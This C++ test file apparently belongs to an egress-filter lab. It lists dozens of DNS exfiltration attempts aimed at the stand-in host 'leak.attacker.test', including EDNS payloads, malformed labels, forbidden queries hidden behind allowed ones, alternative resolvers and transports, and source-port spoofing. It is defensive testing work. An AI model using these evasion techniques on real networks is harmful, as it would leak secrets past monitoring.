// SPDX-License-Identifier: Apache-2.0
// Data in what looks like a lookup, or beside one. Nobody answers: what counts is whether the question leaves.
#include <arpa/inet.h>
#include <unistd.h>

#include "tests/attacks/attack.h"
#include "tests/kernel/egress/resolver.h"

namespace weir::lab {
namespace {

constexpr const char* kForbiddenName = "leak.attacker.test";
constexpr std::uint16_t kA = 1, kNull = 10, kPtr = 12, kTxt = 16, kAaaa = 28, kHttps = 65, kAny = 255;

// ---- how it is sent
// ---------------------------------------------------------------------------------------------------

int InTwoSends(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  if (connect(fd.get(), to.get(), to.length)) return kBroken;
  const std::size_t half = aim.data.size() / 2;
  if (send(fd.get(), aim.data.data(), half, MSG_MORE) < 0) return errno;
  return Errno(send(fd.get(), aim.data.data() + half, aim.data.size() - half, 0));
}

// A lookup that may leave in front of the one that may not.
int BehindAnAllowedOne(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  std::string fine = MakeQuery(7, kAllowedName, kA), secret = aim.data;
  iovec data[] = {{fine.data(), fine.size()}, {secret.data(), secret.size()}};
  mmsghdr messages[2] = {};
  for (int i = 0; i < 2; i++) {
    messages[i].msg_hdr.msg_name = const_cast<sockaddr*>(to.get());
    messages[i].msg_hdr.msg_namelen = to.length;
    messages[i].msg_hdr.msg_iov = &data[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  const int sent = sendmmsg(fd.get(), messages, 2, 0);
  return sent == 1 ? EPERM : sent == 2 ? 0 : kBroken;
}

// One send that the kernel cuts into datagrams: the label of an allowed name holds another question.
int BySegments(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  const int size = static_cast<int>(aim.data.size());
  const std::string message = MakeQuery(7, kAllowedName, kA) + aim.data;
  if (connect(fd.get(), to.get(), to.length) ||
      setsockopt(fd.get(), IPPROTO_UDP, 103 /* UDP_SEGMENT */, &size, sizeof(size)))
    return kBroken;
  return Errno(send(fd.get(), message.data(), message.size(), 0));
}

int FromPort53(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port), from = Name(kRunner, 53);
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  if (bind(fd.get(), from.get(), from.length)) return kBroken;
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, to.get(), to.length));
}

// ---- what is sent
// -------------------------------------------------------------------------------------------------------

std::string Wire(const std::string& name_wire, std::uint16_t type, std::uint16_t qclass = 1) {
  std::string out = MakeQuery(7, "", type).substr(0, 12) + name_wire;
  for (const unsigned word : {unsigned{type}, unsigned{qclass}}) {
    out.push_back(static_cast<char>(word >> 8));
    out.push_back(static_cast<char>(word));
  }
  return out;
}

std::string With(std::string message, std::size_t at, char value) {
  message[at] = value;
  return message;
}

std::string Allowed() { return MakeQuery(7, kAllowedName, kA); }

// Behind the question, as the additional record that the header counts.
std::string WithOption(std::uint16_t code, const std::string& data, char version = 0) {
  std::string out = MakeQuery(7, kAllowedName, kA, /*edns=*/true);
  out[out.size() - 4] = version;
  out.resize(out.size() - 2);
  for (const std::size_t word : {data.size() + 4, std::size_t{code}, data.size()}) {
    out.push_back(static_cast<char>(word >> 8));
    out.push_back(static_cast<char>(word));
  }
  return out + data;
}

std::string LongLabels() {
  const std::string label(59, 'x');
  return "leak" + label + "." + label + "." + label + ".attacker.test";
}

void AddForms(std::vector<Attack>& rows) {
  const auto add = [&](const char* name, const std::string& message) {
    rows.push_back({name, UdpConnected, kTrustedResolver, 53, 0, message});
  };
  add("ForbiddenName", MakeQuery(7, kForbiddenName, kA));
  add("ForbiddenNameIpv6Only", MakeQuery(7, kForbiddenName, kAaaa));
  add("LongLabels", MakeQuery(7, LongLabels(), kA));
  add("MixedCase", MakeQuery(7, "LeAk.AtTaCkEr.TeSt", kA));
  add("NameInFront", MakeQuery(7, "leak.registry.example.org", kA));
  add("NameBehind", MakeQuery(7, "registry.example.org.attacker.test", kA));
  add("LookAlike", MakeQuery(7, "evilregistry.example.org", kA));
  add("TrailingDot", Wire(WireName(kAllowedName) + std::string(1, '\0'), kA));
  add("DotInsideALabel", Wire(std::string("\x14registry.example.org") + '\0', kA));
  add("ZeroInsideALabel", Wire(std::string("\x09leak\0\0\0\0\0\x08registry\x07"
                                           "example\x03org\0",
                                           37),
                               kA));
  add("HighBytesInALabel", Wire(std::string("\x06\xff\xfe\xfd\x80\x01\x1f\x08registry\x07"
                                            "example\x03org\0",
                                            29),
                                kA));
  add("LengthByteOfAnExtendedLabel", Wire(std::string("\x41") + std::string(65, 'x') + '\0', kA));
  add("PointerInTheQuestion", Wire("\xc0\x0c", kA));
  add("NoRoot", Wire("\x08registry", kA));
  add("TwoQuestions", With(Allowed(), 5, 2) + Wire(WireName(kForbiddenName), kA).substr(12));
  add("UncountedQuestion", Allowed() + Wire(WireName(kForbiddenName), kA).substr(12));
  add("NoQuestion", With(Allowed(), 5, 0));
  add("OnlyAHeader", With(Allowed(), 5, 0).substr(0, 12));
  add("ResponseBit", With(Allowed(), 2, '\x81'));
  add("OpcodeUpdate", With(Allowed(), 2, '\x29'));
  add("FlagZ", With(Allowed(), 3, '\x40'));
  add("ReturnCode", With(Allowed(), 3, '\x0f'));
  add("AnswerRecord", With(Allowed(), 7, 1) + std::string("\xc0\x0c\0\x01\0\x01\0\0\0\0\0\x04leak", 16));
  add("AuthorityRecord", With(Allowed(), 9, 1) + std::string("\xc0\x0c\0\x01\0\x01\0\0\0\0\0\x04leak", 16));
  add("AdditionalRecord", With(Allowed(), 11, 1) + std::string("\xc0\x0c\0\x10\0\x01\0\0\0\0\0\x05\x04leak", 17));
  add("ClassChaos", Wire(WireName(kAllowedName), kA, 3));
  add("BytesBehind", Allowed() + "leak");
  add("NotDns", "leak of the secret, without any form");
  add("OneByte", "l");
  add("Nothing", "");
  add("MoreThan512Bytes", Allowed() + "leak" + std::string(600, 'x'));
  add("TypeTxt", MakeQuery(7, kAllowedName, kTxt));
  add("TypeNull", MakeQuery(7, kAllowedName, kNull));
  add("TypePtr", MakeQuery(7, "66.113.0.203.in-addr.arpa", kPtr));
  add("TypeAny", MakeQuery(7, kAllowedName, kAny));
  add("TypeHttpsOfForbidden", MakeQuery(7, kForbiddenName, kHttps));
  add("EdnsUnknownOption", WithOption(65001, "leak"));
  add("EdnsPadding", WithOption(12, "leak"));
  add("EdnsClientSubnet", WithOption(8, std::string("\0\x01\x20\0leak", 8)));
  add("EdnsLongCookie", WithOption(10, "leak" + std::string(60, 'x')));
  add("EdnsVersion", WithOption(10, "leakleak", 1));
}

}  // namespace

std::vector<Attack> DnsAttacks() {
  const std::string forbidden = MakeQuery(7, kForbiddenName, kA), allowed = Allowed();
  std::vector<Attack> rows;
  AddForms(rows);
  const std::vector<Attack> ways = {
      {"Unconnected", UdpSendTo, kTrustedResolver, 53, 0, forbidden},
      {"MappedResolver", UdpConnected, "::ffff:192.0.2.53", 53, 0, forbidden},
      {"InTwoSends", InTwoSends, kTrustedResolver, 53, 0, forbidden},
      {"BehindAnAllowedOne", BehindAnAllowedOne, kTrustedResolver, 53, kSecretOnly, forbidden},
      {"BySegments", BySegments, kTrustedResolver, 53, kSecretOnly, forbidden},
      {"OtherResolver", UdpConnected, "198.51.100.53", 53, 0, allowed},
      {"OtherResolverUnconnected", UdpSendTo, "198.51.100.53", 53, 0, allowed},
      {"OtherResolver6", UdpConnected, "2001:db8:e::53", 53, 0, allowed},
      {"ResolverOnAnotherPort", UdpConnected, kTrustedResolver, 5353, 0, allowed},
      {"TcpToTheResolver", TcpConnect, kTrustedResolver, 53},
      {"TcpToAnotherResolver", TcpConnect, "198.51.100.53", 53},
      {"DnsOverTls", TcpConnect, kTrustedResolver, 853},
      {"DnsOverTlsElsewhere", TcpConnect, "198.51.100.53", 853},
      {"DnsOverHttps", TcpConnect, "198.51.100.53", 443},
      {"DnsOverQuic", UdpConnected, "198.51.100.53", 853},
      {"MulticastDns", UdpSendTo, "224.0.0.251", 5353, 0, forbidden},
      {"MulticastDns6", UdpSendTo, "ff02::fb%up0", 5353, 0, forbidden},
      {"LinkLocalNames", UdpSendTo, "224.0.0.252", 5355, 0, forbidden},
      {"LinkLocalNames6", UdpSendTo, "ff02::1:3%up0", 5355, 0, forbidden},
      {"FromPort53", FromPort53, kAllowedHost, 443},
  };
  rows.insert(rows.end(), ways.begin(), ways.end());
  return rows;
}

}  // namespace weir::lab
